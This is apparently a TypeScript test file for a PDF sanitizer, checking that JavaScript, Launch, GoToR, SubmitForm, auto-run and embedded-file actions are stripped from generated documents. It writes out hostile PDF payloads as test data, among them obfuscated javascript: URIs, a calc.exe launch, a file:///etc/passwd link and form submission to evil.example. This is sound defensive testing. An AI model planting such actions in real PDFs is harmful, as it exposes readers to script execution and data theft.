import { PDFDict, PDFDocument, PDFHexString, PDFName, PDFString } from '@cantoo/pdf-lib'
import { expect, it } from 'vitest'
import { bookInput, madeBook, storedPaper } from './made-book-fixture.ts'

const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }

type Action = Record<string, unknown>

/** Makes a book of a paper with these links; returns every action that is left in the book. */
async function actionsInBook(links: Action[], change: (paper: PDFDocument) => unknown = () => {}) {
  const paper = await PDFDocument.create()
  const { context } = paper
  const sheet = paper.addPage([400, 500])
  const annotations = links.map((link) => {
    const annotation = { Type: 'Annot', Subtype: 'Link', Rect: [9, 90, 60, 140], ...link }
    return context.register(context.obj(annotation as never))
  })
  sheet.node.set(PDFName.of('Annots'), context.obj(annotations))
  await change(paper)
  const { papers, bytes } = await madeBook(bookInput([storedPaper('Budget', await paper.save())]))
  expect(papers[0]).not.toHaveProperty('reason')
  const book = await PDFDocument.load(bytes)
  return book.context.enumerateIndirectObjects().flatMap(([, object]) => actionsIn(object))
}

const starting = new Set(['/AA', '/AF', '/OpenAction', '/JavaScript', '/EmbeddedFiles'])

/** The kinds of actions in an object, and its keys that start an action or embed a file. */
function actionsIn(object: unknown): string[] {
  if (!(object instanceof PDFDict)) return []
  return object.entries().flatMap(([key, value]) => {
    const name = key.asString()
    // `D` are the decimal numbers of page labels.
    if (name === '/S')
      return value instanceof PDFName && value.asString() !== '/D' ? [value.asString()] : []
    return [...(starting.has(name) ? [name] : []), ...actionsIn(value)]
  })
}

const dangerous: Action[] = [
  // A script, also in an address with control characters.
  { A: script },
  { A: { S: 'URI', URI: PDFString.of(' javascript:alert(1)') } },
  { A: { S: 'URI', URI: PDFString.of('\u0001javascript:alert(1)') } },
  { A: { S: 'URI', URI: PDFString.of('java\nscript:alert(1)') } },
  // Programs and files.
  { A: { S: 'Launch', F: PDFString.of('calc.exe') } },
  { A: { S: 'GoToR', F: PDFString.of('\\\\evil.example\\a.pdf') } },
  { A: { S: 'GoToE', T: { R: 'C' } } },
  { A: { S: 'URI', URI: PDFHexString.fromText('file:///etc/passwd') } },
  // Other addresses and commands.
  { A: { S: 'SubmitForm', F: PDFString.of('https://evil.example') } },
  { A: { S: 'URI', URI: PDFString.of('#page=2') } },
  { A: { S: 'URI', URI: PDFString.of('tel:+15550100') } },
  { A: { S: 'Named', N: 'Print' } },
  // Elsewhere: an unknown key, a pop-up, before a change, automatic, and in the parent of a field.
  { Action: script },
  { Popup: { Subtype: 'Popup', AA: { PO: script } } },
  { PA: { S: 'Launch', F: PDFString.of('calc.exe') } },
  { AA: { PO: script } },
  { Parent: { T: PDFString.of('field'), AA: { K: script } } },
]

it('removes the action of every dangerous link', async () => {
  expect(await actionsInBook(dangerous)).toEqual([])
})

it('removes what would run when a paper or one of its pages is opened', async () => {
  const actions = await actionsInBook([{}], async (paper) => {
    const { context, catalog } = paper
    paper.getPage(0).node.set(PDFName.of('AA'), context.obj({ O: script, C: script } as never))
    catalog.set(PDFName.of('OpenAction'), context.obj(script))
    catalog.set(PDFName.of('AA'), context.obj({ WC: script } as never))
    paper.addJavaScript('main', 'app.alert(1)')
    await paper.attach(Buffer.from('MZ'), 'calc.exe')
  })
  expect(actions).toEqual([])
})

it('removes associated files of pages, annotations, forms and images', async () => {
  const actions = await actionsInBook([{ AF: ['file'] }], async (paper) => {
    const { context } = paper
    const page = paper.getPage(0)
    page.node.set(PDFName.of('AF'), context.obj(['file'] as never))
    const form = context.stream('', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 9, 9],
      AF: ['file'],
    })
    page.node.set(
      PDFName.of('Resources'),
      context.obj({ XObject: { AF: context.register(form) } } as never),
    )
  })
  // A resource may have any name.
  expect(actions).toEqual(['/AF'])
})

it('keeps links to addresses, pages and the next page, without their follow-up actions', async () => {
  const address = { S: 'URI', URI: PDFString.of('https://larkspur.example'), Next: script }
  expect(await actionsInBook([{ A: address }])).toEqual(['/URI'])
  expect(await actionsInBook([{ A: { S: 'Named', N: 'NextPage' } }])).toEqual(['/Named'])
})
